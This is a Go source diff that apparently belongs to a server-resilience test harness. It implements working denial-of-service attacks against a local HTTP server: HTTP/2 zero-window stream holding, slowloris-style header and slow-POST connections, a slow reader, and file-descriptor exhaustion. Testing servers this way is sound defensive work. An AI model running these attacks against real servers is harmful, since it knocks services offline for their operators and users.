@@ -1,0 +1,196 @@
+package main
+
+import (
+	"bytes"
+	"context"
+	"crypto/tls"
+	"fmt"
+	"io"
+	"math"
+	"net"
+	"strings"
+	"sync"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+// An attack is so many connections that do something, each again a second
+// after the server has closed it.
+type attack struct {
+	name        string
+	connections int
+	descriptors int // the server's limit, or 0
+	// hold keeps one connection to the server until the server closes it or
+	// ctx ends.
+	hold func(ctx context.Context, v *victim) error
+}
+
+var attacks = []attack{
+	{"zero-window", 100, 0, zeroWindow(240)},
+	{"headers", 4000, 0, plain(func(c net.Conn) error {
+		_, err := fmt.Fprintf(c, "GET /hello HTTP/1.1\r\nHost: localhost\r\nX-Long: %s", strings.Repeat("a", 60_000))
+		return err
+	})},
+	{"header-fields", 1000, 0, plain(func(c net.Conn) error {
+		var b bytes.Buffer
+		b.WriteString("GET /hello HTTP/1.1\r\nHost: localhost\r\n")
+		for i := range 8_000 { // what a server makes of a line is many times its bytes
+			fmt.Fprintf(&b, "%x:\r\n", i)
+		}
+		_, err := c.Write(b.Bytes())
+		return err
+	})},
+	{"idle", 14_000, 0, plain(func(net.Conn) error { return nil })},
+	{"slow-post", 2000, 0, plain(func(c net.Conn) error {
+		_, err := fmt.Fprint(c, "POST /hello HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1000\r\n\r\nabc")
+		return err
+	})},
+	{"slow-reader", 200, 0, slowReader},
+	{"descriptors", 1000, 256, plain(func(net.Conn) error { return nil })},
+}
+
+// perSecond is how many connections an attack opens in a second: more would
+// measure what the machine can do.
+const perSecond = 1000
+
+// begin opens the connections, and returns a function that waits until they
+// are closed after ctx has ended.
+func (a attack) begin(ctx context.Context, v *victim, scale float64) (done func()) {
+	var wg sync.WaitGroup
+	pace := time.NewTicker(time.Second / perSecond)
+	for range int(math.Ceil(float64(a.connections) * scale)) {
+		wg.Go(func() {
+			for {
+				select {
+				case <-ctx.Done():
+					return
+				case <-pace.C:
+					_ = a.hold(ctx, v) // it ends as the server likes
+				}
+				select {
+				case <-ctx.Done():
+				case <-time.After(time.Second):
+				}
+			}
+		})
+	}
+	return func() {
+		wg.Wait()
+		pace.Stop()
+	}
+}
+
+// plain is a connection without TLS that begins with send, and then waits.
+func plain(send func(net.Conn) error) func(context.Context, *victim) error {
+	return func(ctx context.Context, v *victim) error {
+		c, err := dial(ctx, v.addr)
+		if err != nil {
+			return err
+		}
+		defer c.Close()
+		if err := send(c); err != nil {
+			return err
+		}
+		_, err = c.Read(make([]byte, 1)) // one is enough: it holds many
+		return err
+	}
+}
+
+// slowReader sends many requests at a time, and reads no answer.
+func slowReader(ctx context.Context, v *victim) error {
+	c, err := dial(ctx, v.addr)
+	if err != nil {
+		return err
+	}
+	defer c.Close()
+	if err := c.(conn).Conn.(*net.TCPConn).SetReadBuffer(2048); err != nil {
+		return err
+	}
+	// More answers than fit in the buffers; without an end it would be a flood.
+	if _, err := io.WriteString(c, strings.Repeat("GET /hello HTTP/1.1\r\nHost: localhost\r\n\r\n", 1000)); err != nil {
+		return err
+	}
+	<-ctx.Done()
+	return ctx.Err()
+}
+
+// zeroWindow asks for many answers at a time, none of which may be sent, and
+// again when they are cut.
+func zeroWindow(streams int) func(context.Context, *victim) error {
+	return func(ctx context.Context, v *victim) error {
+		raw, err := dial(ctx, v.tls)
+		if err != nil {
+			return err
+		}
+		defer raw.Close()
+		c := tls.Client(raw, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h2"}})
+		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
+			return err
+		}
+		f := http2.NewFramer(c, c)
+		if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}); err != nil {
+			return err
+		}
+		var block bytes.Buffer
+		enc := hpack.NewEncoder(&block)
+		enc.SetMaxDynamicTableSize(0)
+		for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", "localhost"}, {":path", "/hello"}} {
+			if err := enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}); err != nil {
+				return err
+			}
+		}
+		next := uint32(1)
+		open := func() error {
+			next += 2
+			return f.WriteHeaders(http2.HeadersFrameParam{StreamID: next - 2, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
+		}
+		for range streams {
+			if err := open(); err != nil {
+				return err
+			}
+		}
+		for {
+			frame, err := f.ReadFrame()
+			if err != nil {
+				return err
+			}
+			switch frame := frame.(type) {
+			case *http2.SettingsFrame:
+				if !frame.IsAck() {
+					err = f.WriteSettingsAck()
+				}
+			case *http2.PingFrame:
+				err = f.WritePing(true, frame.Data)
+			case *http2.RSTStreamFrame:
+				if frame.ErrCode == http2.ErrCodeInternal { // its deadline passed
+					err = open()
+				}
+			}
+			if err != nil {
+				return err
+			}
+		}
+	}
+}
+
+// A conn is closed when a context ends.
+type conn struct {
+	net.Conn
+	stop func() bool
+}
+
+func (c conn) Close() error {
+	c.stop()
+	return c.Conn.Close()
+}
+
+func dial(ctx context.Context, addr string) (net.Conn, error) {
+	d := net.Dialer{Timeout: 5 * time.Second}
+	c, err := d.DialContext(ctx, "tcp", addr)
+	if err != nil {
+		return nil, err
+	}
+	return conn{c, context.AfterFunc(ctx, func() { c.Close() })}, nil
+}
